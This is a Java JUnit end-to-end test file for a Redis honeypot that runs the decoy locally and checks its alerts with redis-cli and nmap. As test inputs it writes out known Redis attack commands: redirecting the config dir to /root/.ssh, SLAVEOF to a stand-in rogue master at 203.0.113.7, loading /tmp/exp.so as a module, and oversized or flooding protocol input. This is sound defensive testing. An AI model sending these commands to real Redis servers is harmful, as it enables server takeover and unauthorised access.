package dev.moat.e2e.decoy;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.moat.testing.MoatProcess;
import java.io.IOException;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The Redis decoy as attackers meet it: {@code moat decoy serve} runs as its own process on 127.0.0.1 and the
 * official redis-cli and nmap talk to it. Its alerts are read from its standard output (Falco JSON lines), and its
 * process is watched: it must start no child process and open no outbound connection, whatever it is told.
 */
class RedisDecoyClientTest {

  @TempDir static Path dir;
  static Process decoy;
  static int port;
  static Path alerts;

  @BeforeAll
  static void serve() throws Exception {
    try (ServerSocket free = new ServerSocket(0, 1, java.net.InetAddress.getLoopbackAddress())) {
      port = free.getLocalPort();
    }
    alerts = dir.resolve("alerts.jsonl");
    decoy = new ProcessBuilder(Path.of(System.getProperty("java.home"), "bin", "java").toString(), "-jar", MoatProcess.jar().toString(),
        "decoy", "serve", "--decoy", "redis:" + port, "--name", "payments-cache", "--service", "payments-cache", "--namespace", "prod",
        "--spool", dir.resolve("spool").toString())
        .redirectOutput(alerts.toFile()).redirectError(dir.resolve("serve.err").toFile()).start();
    long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(30);
    while (!Files.readString(dir.resolve("serve.err")).contains("listening on")) {
      assertThat(decoy.isAlive()).as("moat decoy serve: %s", Files.readString(dir.resolve("serve.err"))).isTrue();
      assertThat(System.nanoTime()).as("the decoy starts listening").isLessThan(deadline);
      Thread.sleep(50);
    }
  }

  @AfterAll
  static void stop() throws Exception {
    if (decoy != null) {
      decoy.destroy();
      decoy.waitFor(10, TimeUnit.SECONDS);
    }
  }

  private static String redisCli(String... args) throws Exception {
    assumeTrue(Files.isExecutable(Path.of("/usr/bin/redis-cli")), "skipped: redis-cli is not installed (apt-get install redis-tools); .ci/run installs it");
    List<String> command = new ArrayList<>(List.of("redis-cli", "-h", "127.0.0.1", "-p", Integer.toString(port)));
    command.addAll(List.of(args));
    MoatProcess.Result result = MoatProcess.exec(command, java.util.Map.of(), dir, 30);
    assertThat(result.exitCode()).as(result.all()).isZero();
    return result.stdout();
  }

  private static List<JsonNode> alertsWith(String action) throws IOException, InterruptedException {
    ObjectMapper json = new ObjectMapper();
    List<JsonNode> found = new ArrayList<>();
    for (int attempt = 0; attempt < 100 && found.isEmpty(); attempt++) {
      for (String line : Files.readAllLines(alerts)) {
        JsonNode alert = json.readTree(line);
        if (alert.path("output_fields").path("moat.action").asText().equals(action)) {
          found.add(alert);
        }
      }
      if (found.isEmpty()) {
        Thread.sleep(50);
      }
    }
    return found;
  }

  @Test
  void redisCliBelievesItAndEveryRiskyCommandAlerts() throws Exception {
    assertThat(redisCli("PING")).isEqualTo("PONG\n");
    assertThat(redisCli("INFO", "server")).contains("redis_version:7.0.15");
    assertThat(redisCli("CONFIG", "GET", "dir")).startsWith("dir\n/");
    assertThat(redisCli("CONFIG", "SET", "dir", "/root/.ssh")).isEqualTo("OK\n");
    assertThat(redisCli("KEYS", "*")).isNotBlank();
    redisCli("EVAL", "return redis.call('config','get','*')", "0");
    assertThat(redisCli("NOSUCH", "x")).contains("ERR unknown command 'NOSUCH', with args beginning with: 'x'");

    JsonNode configSet = alertsWith("redis.config_set").get(0);
    assertThat(configSet.path("priority").asText()).isEqualTo("Critical");
    assertThat(configSet.path("rule").asText()).isEqualTo("Moat decoy redis.config_set");
    assertThat(configSet.path("output_fields").path("moat.field.dir").asText()).isEqualTo("/root/.ssh");
    assertThat(configSet.path("output_fields").path("fd.cip").asText()).isEqualTo("127.0.0.1");
    assertThat(configSet.path("output_fields").path("moat.decoy.name").asText()).isEqualTo("payments-cache");
    assertThat(configSet.path("output_fields").path("k8s.ns.name").asText()).isEqualTo("prod");
    assertThat(configSet.path("output_fields").path("moat.mitre").asText()).startsWith("T1");
    assertThat(alertsWith("redis.eval")).isNotEmpty();
    assertThat(alertsWith("redis.connect")).as("every touch is seen").isNotEmpty();
  }

  @Test
  void toldToReplicateFromARogueMasterItAlertsAndConnectsNowhere() throws Exception {
    assertThat(redisCli("SLAVEOF", "203.0.113.7", "6379")).isEqualTo("OK\n");
    assertThat(redisCli("MODULE", "LOAD", "/tmp/exp.so")).contains("ERR Error loading the extension");
    JsonNode replicaof = alertsWith("redis.replicaof").get(0);
    assertThat(replicaof.path("priority").asText()).isEqualTo("Critical");
    assertThat(replicaof.path("output_fields").path("moat.field.master_host").asText()).isEqualTo("203.0.113.7");
    assertThat(alertsWith("redis.module_load")).isNotEmpty();

    Thread.sleep(300); // a real Redis would be dialling the master by now
    assertThat(decoy.descendants().toList()).as("no child process").isEmpty();
    assertThat(outboundSockets(decoy.pid(), port)).as("no outbound connection").isEmpty();
  }

  @Test
  void nmapNamesItRedis() throws Exception {
    assumeTrue(Files.isExecutable(Path.of("/usr/bin/nmap")), "skipped: nmap is not installed (apt-get install nmap); .ci/run installs it");
    MoatProcess.Result scan = MoatProcess.exec(List.of("nmap", "-sV", "-Pn", "-n", "-p", Integer.toString(port), "-oX", "-", "127.0.0.1"),
        java.util.Map.of(), dir, 120);
    assertThat(scan.exitCode()).as(scan.all()).isZero();
    assertThat(scan.stdout()).contains("<service name=\"redis\"", "product=\"Redis key-value store\"");
  }

  @Test
  void garbageAndOversizedInputGetAProtocolErrorAndTheDecoyKeepsServing() throws Exception {
    try (Socket socket = new Socket("127.0.0.1", port)) {
      socket.setSoTimeout(10_000);
      socket.getOutputStream().write("*1\r\n$999999999\r\n".getBytes(StandardCharsets.US_ASCII));
      String answer = new String(socket.getInputStream().readAllBytes(), StandardCharsets.US_ASCII);
      assertThat(answer).startsWith("-ERR Protocol error: invalid bulk length");
    }
    try (Socket socket = new Socket("127.0.0.1", port)) {
      socket.setSoTimeout(10_000);
      byte[] flood = new byte[2 << 20];
      java.util.Arrays.fill(flood, (byte) 'A');
      try {
        socket.getOutputStream().write(flood);
      } catch (IOException closedEarly) {
        // the decoy may close before the whole flood is written: that is the point
      }
    }
    assertThat(redisCli("PING")).isEqualTo("PONG\n");
    assertThat(alertsWith("redis.protocol_error")).isNotEmpty();
  }

  @Test
  void tenThousandIdleConnectionsStayCheapAndTheDecoyStillAnswers() throws Exception {
    Path out = dir.resolve("many.jsonl");
    int manyPort;
    try (ServerSocket free = new ServerSocket(0, 1, java.net.InetAddress.getLoopbackAddress())) {
      manyPort = free.getLocalPort();
    }
    Process many = new ProcessBuilder(Path.of(System.getProperty("java.home"), "bin", "java").toString(), "-Xmx128m", "-jar",
        MoatProcess.jar().toString(), "decoy", "serve", "--decoy", "redis:" + manyPort, "--max-connections", "10100",
        "--spool", dir.resolve("many-spool").toString())
        .redirectOutput(out.toFile()).redirectError(dir.resolve("many.err").toFile()).start();
    List<Socket> sockets = new ArrayList<>();
    try {
      long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(30);
      while (!Files.readString(dir.resolve("many.err")).contains("listening on")) {
        assertThat(many.isAlive()).isTrue();
        assertThat(System.nanoTime()).isLessThan(deadline);
        Thread.sleep(50);
      }
      for (int i = 0; i < 10_000; i++) {
        sockets.add(new Socket("127.0.0.1", manyPort));
      }
      try (Socket probe = new Socket("127.0.0.1", manyPort)) {
        probe.setSoTimeout(30_000);
        probe.getOutputStream().write("PING\r\n".getBytes(StandardCharsets.US_ASCII));
        assertThat(new String(probe.getInputStream().readNBytes(7), StandardCharsets.US_ASCII)).isEqualTo("+PONG\r\n");
      }
      long rssKib = Files.readAllLines(Path.of("/proc", Long.toString(many.pid()), "status")).stream()
          .filter(l -> l.startsWith("VmRSS:")).map(l -> Long.parseLong(l.replaceAll("[^0-9]", ""))).findFirst().orElseThrow();
      assertThat(rssKib).as("resident memory with 10,000 open connections (KiB)").isLessThan(320 * 1024);
    } finally {
      for (Socket s : sockets) {
        s.close();
      }
      many.destroy();
      many.waitFor(10, TimeUnit.SECONDS);
    }
  }

  /** TCP sockets of process {@code pid} that are not the decoy's listener or its accepted connections. */
  static List<String> outboundSockets(long pid, int decoyPort) throws IOException {
    Set<String> inodes = new HashSet<>();
    try (var fds = Files.list(Path.of("/proc", Long.toString(pid), "fd"))) {
      for (Path fd : fds.toList()) {
        try {
          String target = Files.readSymbolicLink(fd).toString();
          if (target.startsWith("socket:[")) {
            inodes.add(target.substring(8, target.length() - 1));
          }
        } catch (IOException gone) {
          // closed while listing
        }
      }
    }
    List<String> outbound = new ArrayList<>();
    for (String table : List.of("/proc/net/tcp", "/proc/net/tcp6")) {
      List<String> lines = Files.readAllLines(Path.of(table));
      for (String line : lines.subList(1, lines.size())) {
        String[] f = line.trim().split("\\s+");
        if (!inodes.contains(f[9])) {
          continue;
        }
        int localPort = Integer.parseInt(f[1].substring(f[1].indexOf(':') + 1), 16);
        if (localPort != decoyPort) {
          outbound.add(line.trim());
        }
      }
    }
    return outbound;
  }
}
